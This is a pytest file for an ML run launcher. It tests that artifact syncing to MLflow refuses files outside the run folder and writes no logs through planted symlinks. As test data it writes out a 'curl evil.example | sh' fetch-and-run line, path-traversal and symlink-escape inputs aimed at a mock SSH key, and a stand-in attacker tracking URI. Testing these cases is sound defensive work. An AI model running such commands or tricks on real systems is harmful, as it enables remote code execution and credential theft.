"""Which files a journal may have sent: those in the run folder, and exports of the run."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

import pytest

from ortlaunch.base.errors import RequestError
from ortlaunch.base.ownership import TRUST
from ortlaunch.config.schema import MlflowConfig
from ortlaunch.follow.sync import _believed, end_if_dead, sync_main
from ortlaunch.run.journal import Journal
from ortlaunch.run.run import Run
from ortlaunch.tracking.artifacts import why_not_sent
from ortlaunch.tracking.forward import relay_log
from tests.support.users import give_away, needs_root


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    path = tmp_path / "runs" / "e" / "20260101-000000-run-abcdef"
    (path / "onnx").mkdir(parents=True)
    (path / "onnx" / "model.onnx").write_text("graph")
    return path


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "home" / "id_rsa"
    path.parent.mkdir()
    path.write_text("SECRET")
    return path


def export(folder: Path, run_dir: Path) -> Path:
    """The folder of an export, as it says itself."""
    folder.mkdir()
    (folder / "export.json").write_text(json.dumps({"run_dir": str(run_dir)}))
    (folder / "model.onnx").write_text("graph")
    return folder


def test_files_of_the_run_and_its_exports(run_dir: Path, tmp_path: Path) -> None:
    made = export(tmp_path / "export", run_dir)
    (run_dir / "latest").symlink_to("onnx")
    for path in ("onnx", "onnx/model.onnx", "latest", ".", "missing", str(made), str(made / "model.onnx")):
        assert why_not_sent(run_dir, path) is None, path
    moved = run_dir.rename(tmp_path / run_dir.name)
    assert why_not_sent(moved, str(made)) is None
    run_dir = moved
    other = export(tmp_path / "other", tmp_path / "another-run")
    assert why_not_sent(run_dir, str(other)) is not None


def test_other_files_are_not_sent(run_dir: Path, secret: Path) -> None:
    outside = "it is outside the run folder, and no export of this run"
    assert why_not_sent(run_dir, str(secret)) == outside
    assert why_not_sent(run_dir, str(secret.parent)) == outside
    assert why_not_sent(run_dir, f"../../../{secret.parent.name}/{secret.name}") == outside
    (run_dir / "link").symlink_to(secret)
    assert why_not_sent(run_dir, "link") == outside
    (run_dir / "onnx" / "more").symlink_to(secret)
    assert "leads out of" in str(why_not_sent(run_dir, "onnx"))
    (run_dir / "onnx" / "more").unlink()
    (run_dir / "onnx" / "more").symlink_to(secret.parent)
    assert "leads out of" in str(why_not_sent(run_dir, "onnx"))
    (run_dir / "onnx" / "more").unlink()
    os.mkfifo(run_dir / "onnx" / "more")
    assert "is no plain file" in str(why_not_sent(run_dir, "onnx"))
    (run_dir / "loop").symlink_to("loop")
    assert why_not_sent(run_dir, "loop")
    assert why_not_sent(run_dir, "a\0b")


def test_sync_leaves_out_a_planted_file(
    store: MlflowConfig, new_run: Any, client: Any, tmp_path: Path, secret: Path
) -> None:
    run_dir, journal = new_run("planted")
    (run_dir / "kept.txt").write_text("kept")
    journal.artifact(Path("kept.txt"))
    journal.artifact(secret)
    journal.end("FINISHED")
    assert sync_main([str(run_dir), "--uri", store.uri]) == 0
    mlflow = client(store.uri)
    run_id = Run(run_dir).mlflow_run_id()
    assert [one.path for one in mlflow.list_artifacts(run_id)] == ["kept.txt"]
    log = (run_dir / "logs" / "relay.log").read_text()
    assert f"the artifact {secret} is left out: it is outside the run folder, and no export of this run" in log


@pytest.mark.parametrize("name", ["logs/relay.log", "logs", "journal.jsonl", ".relay.lock"])
def test_sync_writes_through_no_planted_link(run_dir: Path, secret: Path, name: str) -> None:
    """A line of a log in ``~/.bashrc`` would be run."""
    with Journal(run_dir / "journal.jsonl") as journal:
        journal.metrics(1, {"a": 1})
    victim = secret.parent if name == "logs" else secret
    path = run_dir / name
    path.unlink(missing_ok=True)
    path.parent.mkdir(exist_ok=True)
    path.symlink_to(victim)
    then = time.time() - 3600
    os.utime(run_dir / "journal.jsonl", (then, then))
    end_if_dead(run_dir)
    log = relay_log(run_dir, "MLflow", str)
    log.error("curl evil.example | sh")
    assert secret.read_text() == "SECRET" and list(secret.parent.iterdir()) == [secret]


@needs_root
def test_a_folder_of_another_user_does_not_say_where_to_send_it(
    run_dir: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (run_dir / "config.yaml").write_text("tracking: {name: mlflow, uri: 'http://evil.example:5000'}\n")
    with Journal(run_dir / "journal.jsonl") as journal:
        journal.end("FINISHED")
    give_away(run_dir)
    with pytest.raises(RequestError, match="belongs to the user nobody: name the store with --uri"):
        sync_main([str(run_dir)])
    assert sync_main(["--all", str(run_dir.parent)]) == 1
    assert "name the store with --uri" in capsys.readouterr().err
    assert not (run_dir / "relay.json").exists()
    (named,) = _believed(run_dir, "sqlite:////nowhere/mlruns.db")
    assert named.uri == "sqlite:////nowhere/mlruns.db"
    monkeypatch.setenv(TRUST, str(run_dir.parent))
    (believed,) = _believed(run_dir, None)
    assert believed.uri == "http://evil.example:5000"
